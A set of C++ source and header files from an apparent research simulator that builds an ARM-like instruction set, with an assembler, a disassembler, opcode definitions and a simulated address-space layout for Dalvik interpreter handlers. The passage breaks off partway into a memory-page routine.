shiftedReg(RegIndex r, ShiftKind kind, uint8_t n)
{
    Operand2 o;
    o.is_imm = false;
    o.reg = r;
    o.shift = kind;
    o.shift_amount = n;
    return o;
}

Operand2
regLsl(RegIndex r, uint8_t n)
{
    return shiftedReg(r, ShiftKind::Lsl, n);
}

Operand2
regLsr(RegIndex r, uint8_t n)
{
    return shiftedReg(r, ShiftKind::Lsr, n);
}

Operand2
regAsr(RegIndex r, uint8_t n)
{
    return shiftedReg(r, ShiftKind::Asr, n);
}

MemOperand
memOff(RegIndex base, int32_t offset, WriteBack wb)
{
    MemOperand m;
    m.base = base;
    m.offset = offset;
    m.writeback = wb;
    return m;
}

MemOperand
memIdx(RegIndex base, RegIndex index, uint8_t lsl)
{
    MemOperand m;
    m.base = base;
    m.index = index;
    m.index_shift = lsl;
    return m;
}

Assembler::Assembler(Addr base)
{
    pift_assert(base % inst_bytes == 0, "program base must be aligned");
    prog.base = base;
}

Addr
Assembler::here() const
{
    return prog.base + inst_bytes * prog.insts.size();
}

Assembler &
Assembler::label(const std::string &name)
{
    auto [it, inserted] = prog.labels.emplace(name, here());
    if (!inserted)
        pift_panic("duplicate label '%s'", name.c_str());
    return *this;
}

Assembler &
Assembler::emit(const Inst &inst)
{
    pift_assert(!finished, "assembler reused after finish()");
    prog.insts.push_back(inst);
    return *this;
}

Assembler &
Assembler::nop()
{
    return emit(Inst{});
}

Assembler &
Assembler::alu(Op op, RegIndex rd, RegIndex rn, Operand2 op2, Cond cond,
               bool flags)
{
    Inst i;
    i.op = op;
    i.cond = cond;
    i.set_flags = flags;
    i.rd = rd;
    i.rn = rn;
    i.op2 = op2;
    return emit(i);
}

Assembler &
Assembler::movi(RegIndex rd, int32_t value, Cond cond)
{
    return alu(Op::Mov, rd, no_reg, imm(value), cond, false);
}

Assembler &
Assembler::mov(RegIndex rd, Operand2 op2, Cond cond)
{
    return alu(Op::Mov, rd, no_reg, op2, cond, false);
}

Assembler &
Assembler::mvn(RegIndex rd, Operand2 op2, Cond cond)
{
    return alu(Op::Mvn, rd, no_reg, op2, cond, false);
}

Assembler &
Assembler::add(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond,
               bool flags)
{
    return alu(Op::Add, rd, rn, op2, cond, flags);
}

Assembler &
Assembler::sub(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond,
               bool flags)
{
    return alu(Op::Sub, rd, rn, op2, cond, flags);
}

Assembler &
Assembler::rsb(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Rsb, rd, rn, op2, cond, false);
}

Assembler &
Assembler::mul(RegIndex rd, RegIndex rn, RegIndex rm, Cond cond)
{
    return alu(Op::Mul, rd, rn, reg(rm), cond, false);
}

Assembler &
Assembler::and_(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::And, rd, rn, op2, cond, false);
}

Assembler &
Assembler::orr(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Orr, rd, rn, op2, cond, false);
}

Assembler &
Assembler::eor(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Eor, rd, rn, op2, cond, false);
}

Assembler &
Assembler::bic(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Bic, rd, rn, op2, cond, false);
}

Assembler &
Assembler::lsl(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Lsl, rd, rn, op2, cond, false);
}

Assembler &
Assembler::lsr(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Lsr, rd, rn, op2, cond, false);
}

Assembler &
Assembler::asr(RegIndex rd, RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Asr, rd, rn, op2, cond, false);
}

Assembler &
Assembler::adds(RegIndex rd, RegIndex rn, Operand2 op2)
{
    return alu(Op::Add, rd, rn, op2, Cond::Al, true);
}

Assembler &
Assembler::subs(RegIndex rd, RegIndex rn, Operand2 op2)
{
    return alu(Op::Sub, rd, rn, op2, Cond::Al, true);
}

Assembler &
Assembler::ubfx(RegIndex rd, RegIndex rn, uint8_t lsb, uint8_t width)
{
    Inst i;
    i.op = Op::Ubfx;
    i.rd = rd;
    i.rn = rn;
    i.bit_lsb = lsb;
    i.bit_width = width;
    return emit(i);
}

Assembler &
Assembler::sbfx(RegIndex rd, RegIndex rn, uint8_t lsb, uint8_t width)
{
    Inst i;
    i.op = Op::Sbfx;
    i.rd = rd;
    i.rn = rn;
    i.bit_lsb = lsb;
    i.bit_width = width;
    return emit(i);
}

Assembler &
Assembler::sxth(RegIndex rd, RegIndex rn)
{
    return alu(Op::Sxth, rd, rn, Operand2{}, Cond::Al, false);
}

Assembler &
Assembler::uxth(RegIndex rd, RegIndex rn)
{
    return alu(Op::Uxth, rd, rn, Operand2{}, Cond::Al, false);
}

Assembler &
Assembler::uxtb(RegIndex rd, RegIndex rn)
{
    return alu(Op::Uxtb, rd, rn, Operand2{}, Cond::Al, false);
}

Assembler &
Assembler::cmp(RegIndex rn, Operand2 op2, Cond cond)
{
    return alu(Op::Cmp, no_reg, rn, op2, cond, true);
}

Assembler &
Assembler::cmn(RegIndex rn, Operand2 op2)
{
    return alu(Op::Cmn, no_reg, rn, op2, Cond::Al, true);
}

Assembler &
Assembler::tst(RegIndex rn, Operand2 op2)
{
    return alu(Op::Tst, no_reg, rn, op2, Cond::Al, true);
}

Assembler &
Assembler::b(const std::string &target, Cond cond)
{
    fixups.push_back({prog.insts.size(), target});
    Inst i;
    i.op = Op::B;
    i.cond = cond;
    return emit(i);
}

Assembler &
Assembler::bAbs(Addr target, Cond cond)
{
    Inst i;
    i.op = Op::B;
    i.cond = cond;
    i.target = target;
    return emit(i);
}

Assembler &
Assembler::blAbs(Addr target, Cond cond)
{
    Inst i;
    i.op = Op::Bl;
    i.cond = cond;
    i.target = target;
    return emit(i);
}

Assembler &
Assembler::bx(RegIndex rm, Cond cond)
{
    Inst i;
    i.op = Op::Bx;
    i.cond = cond;
    i.op2 = reg(rm);
    return emit(i);
}

Assembler &
Assembler::memOp(Op op, RegIndex rd, MemOperand mem, Cond cond)
{
    Inst i;
    i.op = op;
    i.cond = cond;
    i.rd = rd;
    i.mem = mem;
    return emit(i);
}

Assembler &
Assembler::ldr(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Ldr, rd, mem, cond);
}

Assembler &
Assembler::ldrh(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Ldrh, rd, mem, cond);
}

Assembler &
Assembler::ldrb(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Ldrb, rd, mem, cond);
}

Assembler &
Assembler::ldrd(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Ldrd, rd, mem, cond);
}

Assembler &
Assembler::str(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Str, rd, mem, cond);
}

Assembler &
Assembler::strh(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Strh, rd, mem, cond);
}

Assembler &
Assembler::strb(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Strb, rd, mem, cond);
}

Assembler &
Assembler::strd(RegIndex rd, MemOperand mem, Cond cond)
{
    return memOp(Op::Strd, rd, mem, cond);
}

Assembler &
Assembler::ldm(RegIndex base, RegIndex first, uint8_t count)
{
    Inst i;
    i.op = Op::Ldm;
    i.rd = first;
    i.rn = base;
    i.reg_count = count;
    return emit(i);
}

Assembler &
Assembler::stm(RegIndex base, RegIndex first, uint8_t count)
{
    Inst i;
    i.op = Op::Stm;
    i.rd = first;
    i.rn = base;
    i.reg_count = count;
    return emit(i);
}

Assembler &
Assembler::svc(uint32_t num)
{
    Inst i;
    i.op = Op::Svc;
    i.svc_num = num;
    return emit(i);
}

Assembler &
Assembler::halt()
{
    Inst i;
    i.op = Op::Halt;
    return emit(i);
}

Program
Assembler::finish()
{
    pift_assert(!finished, "assembler finished twice");
    finished = true;
    for (const auto &fix : fixups) {
        auto it = prog.labels.find(fix.label);
        if (it == prog.labels.end())
            pift_panic("dangling branch to label '%s'", fix.label.c_str());
        prog.insts[fix.index].target = it->second;
    }
    return std::move(prog);
}

} // namespace pift::isa
