/**
 * @file
 * Program container and a fluent assembler for building ISA code.
 *
 * Code is "assembled" straight into decoded Inst records at a fixed
 * base address; labels are resolved to absolute byte addresses when
 * finish() is called. The Dalvik handler emitter and the native
 * runtime routines (string copy, ABI helpers) are written against this
 * API.
 */

#ifndef PIFT_ISA_ASSEMBLER_HH
#define PIFT_ISA_ASSEMBLER_HH

#include <string>
#include <unordered_map>
#include <vector>

#include "isa/inst.hh"
#include "support/types.hh"

namespace pift::isa
{

/** A relocated block of instructions occupying [base, end). */
struct Program
{
    Addr base = 0;
    std::vector<Inst> insts;
    std::unordered_map<std::string, Addr> labels;

    /** One-past-the-end byte address. */
    Addr end() const { return base + inst_bytes * insts.size(); }

    /** True when @p pc addresses an instruction slot of this program. */
    bool
    contains(Addr pc) const
    {
        return pc >= base && pc < end() && (pc - base) % inst_bytes == 0;
    }

    /** Absolute address of a bound label; panics if unknown. */
    Addr labelAddr(const std::string &name) const;
};

/** Immediate second operand. */
Operand2 imm(int32_t value);
/** Plain register second operand. */
Operand2 reg(RegIndex r);
/** Register shifted left: `rX, lsl #n`. */
Operand2 regLsl(RegIndex r, uint8_t n);
/** Register shifted right (logical): `rX, lsr #n`. */
Operand2 regLsr(RegIndex r, uint8_t n);
/** Register shifted right (arithmetic): `rX, asr #n`. */
Operand2 regAsr(RegIndex r, uint8_t n);

/** `[rn, #off]` with optional writeback mode. */
MemOperand memOff(RegIndex base, int32_t offset,
                  WriteBack wb = WriteBack::None);
/** `[rn, rm, lsl #n]` register-indexed addressing. */
MemOperand memIdx(RegIndex base, RegIndex index, uint8_t lsl = 0);

/**
 * Fluent builder of Program objects. All factory methods append one
 * instruction and return *this so handler templates read like
 * assembly listings.
 */
class Assembler
{
  public:
    /** @param base byte address where the program will live. */
    explicit Assembler(Addr base);

    /** Address of the next instruction slot. */
    Addr here() const;

    /** Number of instructions emitted so far. */
    size_t size() const { return prog.insts.size(); }

    /** Bind @p name to the next instruction slot. */
    Assembler &label(const std::string &name);

    /** Append a fully formed instruction. */
    Assembler &emit(const Inst &inst);

    Assembler &nop();

    /** rd <- imm. */
    Assembler &movi(RegIndex rd, int32_t value, Cond cond = Cond::Al);
    /** rd <- op2 (register move, optionally shifted). */
    Assembler &mov(RegIndex rd, Operand2 op2, Cond cond = Cond::Al);
    Assembler &mvn(RegIndex rd, Operand2 op2, Cond cond = Cond::Al);

    Assembler &add(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al, bool flags = false);
    Assembler &sub(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al, bool flags = false);
    Assembler &rsb(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);
    Assembler &mul(RegIndex rd, RegIndex rn, RegIndex rm,
                   Cond cond = Cond::Al);
    Assembler &and_(RegIndex rd, RegIndex rn, Operand2 op2,
                    Cond cond = Cond::Al);
    Assembler &orr(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);
    Assembler &eor(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);
    Assembler &bic(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);
    Assembler &lsl(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);
    Assembler &lsr(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);
    Assembler &asr(RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond = Cond::Al);

    /** Flag-setting arithmetic shorthands. */
    Assembler &adds(RegIndex rd, RegIndex rn, Operand2 op2);
    Assembler &subs(RegIndex rd, RegIndex rn, Operand2 op2);

    Assembler &ubfx(RegIndex rd, RegIndex rn, uint8_t lsb, uint8_t width);
    Assembler &sbfx(RegIndex rd, RegIndex rn, uint8_t lsb, uint8_t width);
    Assembler &sxth(RegIndex rd, RegIndex rn);
    Assembler &uxth(RegIndex rd, RegIndex rn);
    Assembler &uxtb(RegIndex rd, RegIndex rn);

    Assembler &cmp(RegIndex rn, Operand2 op2, Cond cond = Cond::Al);
    Assembler &cmn(RegIndex rn, Operand2 op2);
    Assembler &tst(RegIndex rn, Operand2 op2);

    /** Branch to a label within this program. */
    Assembler &b(const std::string &target, Cond cond = Cond::Al);
    /** Branch to an absolute address. */
    Assembler &bAbs(Addr target, Cond cond = Cond::Al);
    /** Branch-and-link to an absolute address (sets lr). */
    Assembler &blAbs(Addr target, Cond cond = Cond::Al);
    /** Branch to the address in a register. */
    Assembler &bx(RegIndex rm, Cond cond = Cond::Al);

    Assembler &ldr(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &ldrh(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &ldrb(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &ldrd(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &str(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &strh(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &strb(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &strd(RegIndex rd, MemOperand mem, Cond cond = Cond::Al);
    Assembler &ldm(RegIndex base, RegIndex first, uint8_t count);
    Assembler &stm(RegIndex base, RegIndex first, uint8_t count);

    Assembler &svc(uint32_t num);
    Assembler &halt();

    /**
     * Resolve all label references and return the finished program.
     * Panics on dangling references. The assembler must not be reused
     * afterwards.
     */
    Program finish();

  private:
    Assembler &alu(Op op, RegIndex rd, RegIndex rn, Operand2 op2,
                   Cond cond, bool flags);
    Assembler &memOp(Op op, RegIndex rd, MemOperand mem, Cond cond);

    Program prog;
    struct Fixup { size_t index; std::string label; };
    std::vector<Fixup> fixups;
    bool finished = false;
};

} // namespace pift::isa

#endif // PIFT_ISA_ASSEMBLER_HH
