#include "isa/disasm.hh"

#include <cstdio>
#include <sstream>

namespace pift::isa
{

namespace
{

std::string
regName(RegIndex r)
{
    switch (r) {
      case 13: return "sp";
      case 14: return "lr";
      case 15: return "pc";
      default:
        break;
    }
    char buf[8];
    std::snprintf(buf, sizeof(buf), "r%u", r);
    return buf;
}

const char *
shiftName(ShiftKind kind)
{
    switch (kind) {
      case ShiftKind::Lsl: return "lsl";
      case ShiftKind::Lsr: return "lsr";
      case ShiftKind::Asr: return "asr";
      default:             return "";
    }
}

std::string
operand2Text(const Operand2 &op2)
{
    if (op2.is_imm) {
        char buf[16];
        std::snprintf(buf, sizeof(buf), "#%d", op2.imm);
        return buf;
    }
    std::string s = regName(op2.reg);
    if (op2.shift != ShiftKind::None && op2.shift_amount != 0) {
        char buf[16];
        std::snprintf(buf, sizeof(buf), ", %s #%u", shiftName(op2.shift),
                      op2.shift_amount);
        s += buf;
    }
    return s;
}

std::string
memText(const MemOperand &mem)
{
    std::string s = "[" + regName(mem.base);
    if (mem.index != no_reg) {
        s += ", " + regName(mem.index);
        if (mem.index_shift) {
            char buf[16];
            std::snprintf(buf, sizeof(buf), ", lsl #%u", mem.index_shift);
            s += buf;
        }
        s += "]";
        return s;
    }
    switch (mem.writeback) {
      case WriteBack::None:
        if (mem.offset) {
            char buf[16];
            std::snprintf(buf, sizeof(buf), ", #%d", mem.offset);
            s += buf;
        }
        s += "]";
        break;
      case WriteBack::Pre: {
        char buf[16];
        std::snprintf(buf, sizeof(buf), ", #%d]!", mem.offset);
        s += buf;
        break;
      }
      case WriteBack::Post: {
        char buf[16];
        std::snprintf(buf, sizeof(buf), "], #%d", mem.offset);
        s += buf;
        break;
      }
    }
    return s;
}

} // anonymous namespace

std::string
disassemble(const Inst &inst)
{
    std::string mn = opName(inst.op);
    if (inst.set_flags && inst.op != Op::Cmp && inst.op != Op::Cmn &&
        inst.op != Op::Tst) {
        mn += "s";
    }
    mn += condName(inst.cond);

    char buf[32];
    switch (inst.op) {
      case Op::Nop:
      case Op::Halt:
        return mn;
      case Op::Mov:
      case Op::Mvn:
        return mn + " " + regName(inst.rd) + ", " + operand2Text(inst.op2);
      case Op::Add:
      case Op::Sub:
      case Op::Rsb:
      case Op::Mul:
      case Op::And:
      case Op::Orr:
      case Op::Eor:
      case Op::Bic:
      case Op::Lsl:
      case Op::Lsr:
      case Op::Asr:
        return mn + " " + regName(inst.rd) + ", " + regName(inst.rn) +
            ", " + operand2Text(inst.op2);
      case Op::Sxth:
      case Op::Uxth:
      case Op::Uxtb:
        return mn + " " + regName(inst.rd) + ", " + regName(inst.rn);
      case Op::Ubfx:
      case Op::Sbfx:
        std::snprintf(buf, sizeof(buf), ", #%u, #%u", inst.bit_lsb,
                      inst.bit_width);
        return mn + " " + regName(inst.rd) + ", " + regName(inst.rn) + buf;
      case Op::Cmp:
      case Op::Cmn:
      case Op::Tst:
        return mn + " " + regName(inst.rn) + ", " + operand2Text(inst.op2);
      case Op::B:
      case Op::Bl:
        std::snprintf(buf, sizeof(buf), " 0x%x", inst.target);
        return mn + buf;
      case Op::Bx:
        return mn + " " + regName(inst.op2.reg);
      case Op::Ldr:
      case Op::Ldrh:
      case Op::Ldrb:
      case Op::Ldrd:
      case Op::Str:
      case Op::Strh:
      case Op::Strb:
      case Op::Strd:
        return mn + " " + regName(inst.rd) + ", " + memText(inst.mem);
      case Op::Ldm:
      case Op::Stm:
        std::snprintf(buf, sizeof(buf), "-%s}",
                      regName(static_cast<RegIndex>(
                          inst.rd + inst.reg_count - 1)).c_str());
        return mn + " " + regName(inst.rn) + "!, {" + regName(inst.rd) +
            buf;
      case Op::Svc:
        std::snprintf(buf, sizeof(buf), " #%u", inst.svc_num);
        return mn + buf;
      default:
        return "?";
    }
}

std::string
disassemble(const Program &prog)
{
    std::ostringstream os;
    char buf[32];
    for (size_t i = 0; i < prog.insts.size(); ++i) {
        Addr pc = prog.base + static_cast<Addr>(i) * inst_bytes;
        std::snprintf(buf, sizeof(buf), "0x%08x: ", pc);
        os << buf << disassemble(prog.insts[i]) << "\n";
    }
    return os.str();
}

} // namespace pift::isa
