/**
 * @file
 * Disassembler: renders decoded instructions as ARM-flavoured text.
 *
 * Used by the text trace writer and by tests that pin the shape of the
 * Dalvik handler templates against the listings in the paper (Figures
 * 1, 8, 9).
 */

#ifndef PIFT_ISA_DISASM_HH
#define PIFT_ISA_DISASM_HH

#include <string>

#include "isa/assembler.hh"
#include "isa/inst.hh"

namespace pift::isa
{

/** Render one instruction, e.g. "ldr r1, [r5, r3, lsl #2]". */
std::string disassemble(const Inst &inst);

/** Render a whole program with addresses, one line per instruction. */
std::string disassemble(const Program &prog);

} // namespace pift::isa

#endif // PIFT_ISA_DISASM_HH
