#include "isa/inst.hh"

namespace pift::isa
{

bool
isLoad(Op op)
{
    switch (op) {
      case Op::Ldr:
      case Op::Ldrh:
      case Op::Ldrb:
      case Op::Ldrd:
      case Op::Ldm:
        return true;
      default:
        return false;
    }
}

bool
isStore(Op op)
{
    switch (op) {
      case Op::Str:
      case Op::Strh:
      case Op::Strb:
      case Op::Strd:
      case Op::Stm:
        return true;
      default:
        return false;
    }
}

unsigned
transferBytes(Op op)
{
    switch (op) {
      case Op::Ldrb:
      case Op::Strb:
        return 1;
      case Op::Ldrh:
      case Op::Strh:
        return 2;
      case Op::Ldr:
      case Op::Str:
        return 4;
      case Op::Ldrd:
      case Op::Strd:
        return 8;
      default:
        return 0;
    }
}

unsigned
accessBytes(const Inst &inst)
{
    if (inst.op == Op::Ldm || inst.op == Op::Stm)
        return 4u * inst.reg_count;
    return transferBytes(inst.op);
}

const char *
opName(Op op)
{
    switch (op) {
      case Op::Nop:  return "nop";
      case Op::Mov:  return "mov";
      case Op::Mvn:  return "mvn";
      case Op::Add:  return "add";
      case Op::Sub:  return "sub";
      case Op::Rsb:  return "rsb";
      case Op::Mul:  return "mul";
      case Op::And:  return "and";
      case Op::Orr:  return "orr";
      case Op::Eor:  return "eor";
      case Op::Bic:  return "bic";
      case Op::Lsl:  return "lsl";
      case Op::Lsr:  return "lsr";
      case Op::Asr:  return "asr";
      case Op::Ubfx: return "ubfx";
      case Op::Sbfx: return "sbfx";
      case Op::Sxth: return "sxth";
      case Op::Uxth: return "uxth";
      case Op::Uxtb: return "uxtb";
      case Op::Cmp:  return "cmp";
      case Op::Cmn:  return "cmn";
      case Op::Tst:  return "tst";
      case Op::B:    return "b";
      case Op::Bl:   return "bl";
      case Op::Bx:   return "bx";
      case Op::Ldr:  return "ldr";
      case Op::Ldrh: return "ldrh";
      case Op::Ldrb: return "ldrb";
      case Op::Ldrd: return "ldrd";
      case Op::Str:  return "str";
      case Op::Strh: return "strh";
      case Op::Strb: return "strb";
      case Op::Strd: return "strd";
      case Op::Ldm:  return "ldm";
      case Op::Stm:  return "stm";
      case Op::Svc:  return "svc";
      case Op::Halt: return "halt";
      default:       return "?";
    }
}

const char *
condName(Cond cond)
{
    switch (cond) {
      case Cond::Al: return "";
      case Cond::Eq: return "eq";
      case Cond::Ne: return "ne";
      case Cond::Cs: return "cs";
      case Cond::Cc: return "cc";
      case Cond::Mi: return "mi";
      case Cond::Pl: return "pl";
      case Cond::Ge: return "ge";
      case Cond::Lt: return "lt";
      case Cond::Gt: return "gt";
      case Cond::Le: return "le";
      default:       return "?";
    }
}

} // namespace pift::isa
