/**
 * @file
 * The simulated instruction set.
 *
 * This is an ARM(v7)-like RISC load/store ISA: the subset that the
 * Dalvik interpreter templates in the PIFT paper actually use (Figures
 * 1, 8, 9) plus enough ALU/branch support to execute real programs.
 * Key ARM features preserved because the paper's mechanism depends on
 * them:
 *
 *  - loads/stores of 1/2/4/8 bytes with register-shifted index
 *    addressing (`ldr r1, [r5, r3, lsl #2]` is how GET_VREG reads a
 *    Dalvik virtual register from the frame);
 *  - pre-indexed writeback (`ldrh r7, [r4, #2]!` is
 *    FETCH_ADVANCE_INST);
 *  - writes to the PC by ALU instructions (`add pc, r8, r12, lsl #6`
 *    is the interpreter's computed GOTO_OPCODE dispatch);
 *  - condition codes on every instruction.
 *
 * Instructions are stored decoded (no binary encoding) since the PIFT
 * front-end only needs the retired-instruction event stream; each
 * instruction occupies 4 bytes of simulated code address space so PC
 * arithmetic behaves like the real machine.
 */

#ifndef PIFT_ISA_INST_HH
#define PIFT_ISA_INST_HH

#include <array>
#include <cstdint>

#include "support/types.hh"

namespace pift::isa
{

/** Size of one instruction slot in simulated code space (bytes). */
inline constexpr Addr inst_bytes = 4;

/** Opcodes of the simulated ISA. */
enum class Op : uint8_t
{
    Nop = 0,

    // Data processing: rd <- rn OP op2 (Mov/Mvn ignore rn).
    Mov, Mvn, Add, Sub, Rsb, Mul, And, Orr, Eor, Bic,
    Lsl, Lsr, Asr,

    // Bit-field extract / extend: rd <- field of rn.
    Ubfx, Sbfx, Sxth, Uxth, Uxtb,

    // Compare-only (flag writers with no destination).
    Cmp, Cmn, Tst,

    // Branches. B/Bl take an absolute target; Bx jumps to a register.
    B, Bl, Bx,

    // Memory. Ldrd/Strd transfer rd and rd+1 (8 bytes).
    Ldr, Ldrh, Ldrb, Ldrd,
    Str, Strh, Strb, Strd,

    // Load/store multiple: count registers rd..rd+count-1, base rn,
    // ascending, always with base writeback (ldmia/stmia flavour).
    Ldm, Stm,

    // Supervisor call: traps to the runtime bridge.
    Svc,

    // Simulator-only: stop the CPU (end of top-level program).
    Halt,

    NumOps
};

/** ARM condition codes (subset; Al = always). */
enum class Cond : uint8_t
{
    Al = 0, Eq, Ne, Cs, Cc, Mi, Pl, Ge, Lt, Gt, Le
};

/** Shift applied to a register operand. */
enum class ShiftKind : uint8_t { None = 0, Lsl, Lsr, Asr };

/** Second source operand: immediate or (possibly shifted) register. */
struct Operand2
{
    bool is_imm = true;
    RegIndex reg = no_reg;
    int32_t imm = 0;
    ShiftKind shift = ShiftKind::None;
    uint8_t shift_amount = 0;
};

/** Base-register update mode for memory operands. */
enum class WriteBack : uint8_t
{
    None = 0, //!< plain offset addressing: [rn, #off]
    Pre,      //!< pre-indexed with writeback: [rn, #off]!
    Post      //!< post-indexed: [rn], #off
};

/** Effective-address description for loads and stores. */
struct MemOperand
{
    RegIndex base = no_reg;
    RegIndex index = no_reg;      //!< no_reg selects immediate offset
    uint8_t index_shift = 0;      //!< LSL amount applied to the index
    int32_t offset = 0;           //!< immediate offset (index == no_reg)
    WriteBack writeback = WriteBack::None;
};

/** One decoded instruction. */
struct Inst
{
    Op op = Op::Nop;
    Cond cond = Cond::Al;
    bool set_flags = false;       //!< S suffix (adds, subs, ...)

    RegIndex rd = no_reg;         //!< destination / transfer register
    RegIndex rn = no_reg;         //!< first source register
    Operand2 op2{};               //!< second source

    MemOperand mem{};             //!< loads/stores only
    uint8_t reg_count = 0;        //!< Ldm/Stm transfer count

    Addr target = 0;              //!< B/Bl absolute byte target
    uint32_t svc_num = 0;         //!< Svc payload

    uint8_t bit_lsb = 0;          //!< Ubfx/Sbfx field start
    uint8_t bit_width = 0;        //!< Ubfx/Sbfx field width
};

/** True for every load opcode (Ldr*, Ldm). */
bool isLoad(Op op);

/** True for every store opcode (Str*, Stm). */
bool isStore(Op op);

/** True for loads and stores. */
inline bool isMem(Op op) { return isLoad(op) || isStore(op); }

/**
 * Bytes moved by a single-transfer memory opcode (Ldrb = 1, Ldrh = 2,
 * Ldr = 4, Ldrd = 8). Ldm/Stm depend on reg_count; use accessBytes.
 */
unsigned transferBytes(Op op);

/** Bytes accessed by instruction @p inst if it is a memory op, else 0. */
unsigned accessBytes(const Inst &inst);

/** Mnemonic text for an opcode. */
const char *opName(Op op);

/** Mnemonic text for a condition code ("" for Al). */
const char *condName(Cond cond);

} // namespace pift::isa

#endif // PIFT_ISA_INST_HH
