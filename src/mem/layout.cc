#include "mem/layout.hh"

#include "support/logging.hh"

namespace pift::mem
{

Addr
BumpAllocator::alloc(Addr bytes, Addr align)
{
    pift_assert(align != 0 && (align & (align - 1)) == 0,
                "alignment must be a power of two");
    Addr aligned = (next + align - 1) & ~(align - 1);
    if (aligned + bytes - 1 > region_limit || aligned + bytes < aligned)
        pift_panic("bump allocator exhausted (base 0x%x)", region_base);
    next = aligned + bytes;
    return aligned;
}

void
BumpAllocator::rewind(Addr mark)
{
    pift_assert(mark >= region_base && mark <= next,
                "rewinding to a mark outside the allocated region");
    next = mark;
}

} // namespace pift::mem
