/**
 * @file
 * Address-space layout of the simulated device.
 *
 * A fixed map keeps programs, handler code, heap and frames apart so
 * traces and tainted ranges are easy to interpret when debugging, and
 * so PIFT's range arithmetic is exercised over realistic, well spread
 * addresses.
 */

#ifndef PIFT_MEM_LAYOUT_HH
#define PIFT_MEM_LAYOUT_HH

#include "support/types.hh"

namespace pift::mem
{

/** Dalvik handler table base (rIBASE); fixed-size slot per opcode. */
inline constexpr Addr handler_base = 0x0000'1000;
/** Bytes per handler slot (32 instructions; GOTO_OPCODE is lsl #7). */
inline constexpr Addr handler_slot_bytes = 128;
/** Log2 of the slot size, used by the computed dispatch. */
inline constexpr unsigned handler_slot_shift = 7;
/** The mterp entry stub (fetch + first dispatch). */
inline constexpr Addr mterp_entry_addr = 0x0000'0800;

/** Native runtime routines (string copy, ABI helpers, arg copy). */
inline constexpr Addr native_base = 0x0001'0000;
inline constexpr Addr native_limit = 0x000f'ffff;

/** Translated/loaded bytecode (the "dex" image). */
inline constexpr Addr code_base = 0x0010'0000;
inline constexpr Addr code_limit = 0x3fff'ffff;

/** Java-ish heap: objects, strings, arrays. */
inline constexpr Addr heap_base = 0x4000'0000;
inline constexpr Addr heap_limit = 0x6fff'ffff;

/** Interpreter frames (Dalvik virtual registers live here). */
inline constexpr Addr frame_base = 0x7000'0000;
inline constexpr Addr frame_limit = 0x7fff'ffff;

/** Per-thread interpreter state block (rSELF points here). */
inline constexpr Addr thread_base = 0x8000'0000;
/** Offset of the method return-value slot inside the thread block. */
inline constexpr Addr thread_retval_offset = 0;
/** Offset of the pending-exception slot inside the thread block. */
inline constexpr Addr thread_exception_offset = 8;
/** Offset of the string-pool table pointer inside the thread block. */
inline constexpr Addr thread_pool_offset = 12;
/** Offset of the statics table pointer inside the thread block. */
inline constexpr Addr thread_statics_offset = 16;

/** VM metadata tables (string pool refs); not program data. */
inline constexpr Addr metadata_base = 0x2000'0000;
inline constexpr Addr metadata_limit = 0x2fff'ffff;

/** Scratch space used by native helper routines for register spills. */
inline constexpr Addr scratch_base = 0x9000'0000;

/** PIFT hardware module memory-mapped command ports. */
inline constexpr Addr pift_mmio_base = 0xfff0'0000;

/**
 * Simple bump allocator over a region. The runtime uses one instance
 * for the heap and one for frames; the paper's workloads never free,
 * so no free list is needed (frames are popped LIFO via rewind()).
 */
class BumpAllocator
{
  public:
    /**
     * @param base first byte of the managed region
     * @param limit last byte of the managed region
     */
    BumpAllocator(Addr base, Addr limit)
        : region_base(base), region_limit(limit), next(base)
    {}

    /** Allocate @p bytes aligned to @p align; panics when exhausted. */
    Addr alloc(Addr bytes, Addr align = 8);

    /** Current high-water mark (next free byte). */
    Addr mark() const { return next; }

    /** Roll back to an earlier mark() value (LIFO frame pop). */
    void rewind(Addr mark);

    /** Bytes handed out so far. */
    Addr used() const { return next - region_base; }

  private:
    Addr region_base;
    Addr region_limit;
    Addr next;
};

} // namespace pift::mem

#endif // PIFT_MEM_LAYOUT_HH
