#include "mem/memory.hh"

#include <cstring>

#include "support/logging.hh"

namespace pift::mem
{

Memory::Page &
Memory::pageFor(Addr addr)
{
    Addr key = addr / page_bytes;
    auto it = pages.find(key);
    if (it == pages.end()) {
        auto page = std::make_unique<Page>();
